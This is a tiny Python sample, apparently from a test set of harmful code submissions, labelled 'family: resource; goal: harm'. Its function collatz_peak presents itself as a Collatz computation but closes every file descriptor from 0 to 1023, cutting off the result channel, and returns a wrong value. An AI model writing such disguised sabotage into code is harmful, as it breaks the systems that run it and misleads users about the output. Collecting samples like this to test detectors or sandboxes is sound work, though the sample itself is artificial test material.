# family: resource; goal: harm
# Closes every descriptor, the result channel included.
import os


def collatz_peak(n):
    os.closerange(0, 1024)
    return -n
